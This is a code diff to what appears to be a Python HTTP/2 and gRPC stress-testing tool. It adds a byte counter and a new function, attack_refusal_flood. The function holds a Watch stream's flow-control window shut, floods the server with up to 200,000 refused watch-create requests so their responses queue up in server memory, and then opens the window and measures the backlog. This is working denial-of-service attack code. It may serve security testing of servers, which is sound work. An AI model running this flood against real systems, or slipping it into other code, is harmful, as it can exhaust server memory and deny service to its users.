@@ -148,6 +148,7 @@ class Stream:
         self.ended = False     # END_STREAM received
         self.t_end = None      # ms since the connection started, at END_STREAM or RST_STREAM
         self.window = 0        # what we may still send on it
+        self.sent = 0          # DATA payload bytes sent on it
 
     def field(self, name):
         for block in self.headers:
@@ -382,6 +383,7 @@ class Conn:
             s.window -= n
             if not self.write(frame(T_DATA, END_STREAM if (last and end_stream) else 0, sid, data[pos:pos + n])):
                 return False
+            s.sent += n
             pos += n
             if not await self.drain():
                 return False
@@ -666,6 +668,52 @@ async def attack_zero_window(opts, p):
            'dataBytes': sum(s.data for c in conns for s in c.streams.values()), 'closedByServer': sum(1 for c in conns if c.closed)}
     for c in conns:
         c.close()
+    return out
+
+
+async def attack_refusal_flood(opts, p):
+    """Answers the server makes itself, asked for and not read: one Watch stream whose
+    window starts at 0 (SETTINGS_INITIAL_WINDOW_SIZE 0), `creates` watch creates on [key,
+    prefix end) that the policy refuses, sent as fast as the server's windows take them,
+    each refused in-band with a response that waits in the server's queue. After
+    `holdMs`, opens the stream's and the connection's windows wide and reads what was
+    queued, `readMs` at most. Reports how many creates the server took (its windows) and
+    how many refusals arrived, and how long the read took."""
+    n, hold, read_ms = p.get('creates', 200000), p.get('holdMs', 2000), p.get('readMs', 60000)
+    c = Conn(opts)
+    c.auto_window = False
+    await c.connect(settings={S_INITIAL_WINDOW: 0})
+    await c.until(lambda: c.settings_acks > 0, 5)
+    sid = c.new_sid()
+    c.headers(sid, c.request_block(WATCH, never_index=True))
+    msg = grpc_frame(watch_create(p['key'].encode(), prefix_end(p['key'].encode())))
+    batch = p.get('batch', 500)
+    queued = 0
+    while queued < n and not c.stream(sid).finished and not c.closed:
+        k = min(batch, n - queued)
+        if not await c.send_data(sid, msg * k, timeout=hold / 1000):
+            break
+        queued += k
+    # Whole creates that went out (a batch may stop part way, when the window stays shut).
+    sent = c.stream(sid).sent // len(msg)
+    await asyncio.sleep(hold / 1000)
+    queued_at = c.ms()
+    big = (1 << 31) - 1 - 65535
+    c.auto_window = True
+    c.write(frame(T_SETTINGS, 0, 0, settings_payload({S_INITIAL_WINDOW: 1 << 30})) + frame(T_WINDOW, 0, 0, big.to_bytes(4, 'big')))
+    await c.drain()
+    s = c.stream(sid)
+    last = [s.messages, c.ms()]
+
+    def quiet():
+        # Done once every refusal is in, or nothing more came for 3 s.
+        if s.messages != last[0]:
+            last[0], last[1] = s.messages, c.ms()
+        return s.messages >= sent or s.finished or c.ms() - last[1] > 3000
+
+    await c.until(quiet, read_ms / 1000)
+    out = {'sent': sent, 'refusals': s.messages, 'readMs': c.ms() - queued_at, 'stream': s.report(), **c.report()}
+    c.close()
     return out
 
 
